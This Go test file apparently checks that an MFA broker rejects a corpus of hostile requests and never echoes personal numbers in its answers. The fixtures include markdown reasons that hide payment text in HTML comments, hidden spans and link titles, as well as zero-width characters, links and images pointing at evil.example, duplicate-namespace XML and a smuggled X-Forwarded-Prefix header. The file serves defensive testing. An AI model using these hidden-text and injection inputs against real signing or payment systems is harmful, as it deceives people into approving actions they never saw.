	add("form-pnr-in-country", request(formCT, "", victimForm(url.Values{"COUNTRY": {victimPNR}})), 400, "invalid-field")
	add("xml-pnr-in-country", request(xmlCT, "", xmlBody(xmlFields(victimPNR, victimPNR, "30", "r"))), 400, "invalid-field")
	add("json-pnr-in-issued", request(jsonCT, "", jsonFields(victimJSON(map[string]any{"LegalId": "rp@legal.broker.test", "Signature": strings.Repeat("A", 86) + "==", "Issued": victimPNR, "Nonce": "0123456789abcdef"}))), 400, "invalid-field")
	add("xml-pnr-as-text", request(xmlCT, "", xmlBody(victimPNR+okXML)), 400, "schema-violation")
	add("xml-pnr-attribute", request(xmlCT, "", xmlBody(strings.Replace(okXML, "<PNR>", `<PNR n="`+victimPNR+`">`, 1))), 400, "schema-violation")

	// Reasons that would freeze a device's markdown renderer, or hide text
	// the person never sees but signs, are outside the markdown devices
	// show (package simplemd) and refused before any push.
	for _, r := range []struct{ name, reason string }{
		{"nested-quotes", strings.Repeat(">", 100) + " x"},
		{"nested-quote-lists", strings.Repeat("> - ", 40) + "x"},
		{"html-comment", "A<!-- and transfer 10000 EUR -->B"},
		{"html-tag", "Log in <span hidden>and pay</span>"},
		{"processing-instruction", "A<?x and pay ?>B"},
		{"link-title", `[Example Bank](https://bank.example "and transfer 10000 EUR")`},
		{"link-reference-definition", "Log in\n[x]: https://evil.example \"and pay\""},
		{"image", "![logo](https://evil.example/x.png)"},
		{"entity-zero-width", "Exa&ZeroWidthSpace;mple"},
		{"entity-hex-zero-width", "Exa&#x200B;mple"},
		{"entity-bom", "&#xFEFF;Example"},
		{"entity-line-separator", "Pay&#x2028;100"},
		{"too-many-lines", strings.Repeat("\u00a0\n\n", 40) + "x"},
		{"heading-level-4", "#### Pay"},
		{"unclosed-code-block", "```\nPay"},
		{"left-to-right-mark", "Pay \u200e100 EUR"},
	} {
		add("reason-markdown-"+r.name, request(jsonCT, "", jsonFields(victimJSON(map[string]any{"Reason": r.reason}))), 400, "invalid-field")
	}
	// XML that is not well-formed though etree reads it, and XML that is.
	nobodyXML := xmlFields("19000101-0000", "SE", "30", "Log in")
	add("xml-two-xmlns", request(xmlCT, "", []byte(`<MFA xmlns="http://attacker.example/" xmlns="http://waher.se/Schema/MFA.xsd">`+okXML+`</MFA>`)), 400, "malformed")
	add("xml-rebound-xml-prefix", request(xmlCT, "", []byte(`<MFA xmlns="http://waher.se/Schema/MFA.xsd" xmlns:xml="urn:other">`+okXML+`</MFA>`)), 400, "malformed")
	add("xml-utf8-bom", request(xmlCT, "", append([]byte("\xef\xbb\xbf"), xmlBody(nobodyXML)...)), 404, "unknown-person")
	add("xml-utf16-bom", request("text/xml; charset=utf-16", "", utf16LE(string(xmlBody(nobodyXML)))), 404, "unknown-person")
	// HEAD where GET works; no redirect steered by X-Forwarded-Prefix.
	add("http-head-form", []byte("HEAD /MFA HTTP/1.1\r\nHost: b\r\nConnection: close\r\n\r\n"), 200, "")
	add("http-forwarded-prefix", []byte("GET /MFA/ HTTP/1.1\r\nHost: b\r\nX-Forwarded-Prefix: /evilexample\r\nConnection: close\r\n\r\n"), 404, "not-found")
	add("pnr-right-to-left-mark", request(jsonCT, "", jsonFields(victimJSON(map[string]any{"PNR": "\u200f" + victimPNR}))), 400, "invalid-field")
	return cs
}

// utf16LE is s in UTF-16, little-endian, after a byte-order mark.
func utf16LE(s string) []byte {
	out := []byte{0xff, 0xfe}
	for _, c := range utf16.Encode([]rune(s)) {
		out = binary.LittleEndian.AppendUint16(out, c)
	}
	return out
}

// personalNumbers finds what a request says about people: the victim's
// number, and every PNR-shaped run of digits in it, so that the corpus run
// can check that no answer repeats any of them.
func personalNumbers(raw []byte) []string {
	found := map[string]bool{}
	if bytes.Contains(raw, []byte(victimPNR)) {
		found[victimPNR] = true
	}
	for _, m := range regexp.MustCompile(`[0-9]{6,8}[-+]?[0-9]{4}`).FindAll(raw, -1) {
		found[string(m)] = true
	}
	out := make([]string, 0, len(found))
	for n := range found {
		out = append(out, n)
	}
	return out
}

// chunked sends body with chunked transfer encoding, which declares no
// length up front.
func chunked(contentType string, body []byte) []byte {
	var b bytes.Buffer
	b.WriteString("POST /MFA HTTP/1.1\r\nHost: broker.test\r\nContent-Type: " + contentType + "\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n")
	for len(body) > 0 {
		n := min(len(body), 8192)
		fmt.Fprintf(&b, "%x\r\n", n)
		b.Write(body[:n])
		b.WriteString("\r\n")
		body = body[n:]
	}
	b.WriteString("0\r\n\r\n")
	return b.Bytes()
}

func xmlEscapeText(w *bytes.Buffer, s string) {
	w.WriteString(strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;").Replace(s))
}

// TestHostileCorpusAtOrders sends every request of the corpus made for
// POST /MFA to POST /Orders instead: an order is refused exactly as the
// same request to /MFA, and what /MFA would have pushed is an order
// placed.
func TestHostileCorpusAtOrders(t *testing.T) {
	t.Parallel()
	tb := startBroker(t)
	victim := tb.person(victimPNR, victimCountry, notifytest.Always(notify.Approve))
	addr := strings.TrimPrefix(tb.srv.HTTPURL(), "http://")
	sent := 0
	for _, c := range readCorpus(t) {
		raw, ok := bytes.CutPrefix(c.raw, []byte("POST /MFA "))
		if !ok {
			continue
		}
		sent++
		raw = append([]byte("POST /Orders "), raw...)
		resp := sendRaw(t, addr, raw)
		for _, pnr := range personalNumbers(c.raw) {
			if bytes.Contains(resp.body, []byte(pnr)) {
				t.Errorf("%s: the answer repeats the personal number %s: %s", c.name, pnr, resp.body)
			}
		}
		wantStatus, wantCode := c.status, c.code
		if c.status == http.StatusOK {
			wantStatus, wantCode = http.StatusCreated, "order-created"
		}
		if resp.status != wantStatus {
			t.Errorf("%s: status %d, want %d: %s", c.name, resp.status, wantStatus, resp.body)
			continue
		}
		if wantCode == "" {
			continue
		}
		media, _, _ := strings.Cut(resp.header.Get("Content-Type"), ";")
		if o := tb.parseOutcome(resp, media); o.code != wantCode {
			t.Errorf("%s: code %q (%s), want %s", c.name, o.code, o.message, wantCode)
		}
	}
	if sent < 200 {
		t.Fatalf("only %d of the corpus's requests are for POST /MFA", sent)
	}
	tb.barrier(victim, victimPNR, victimCountry)
}
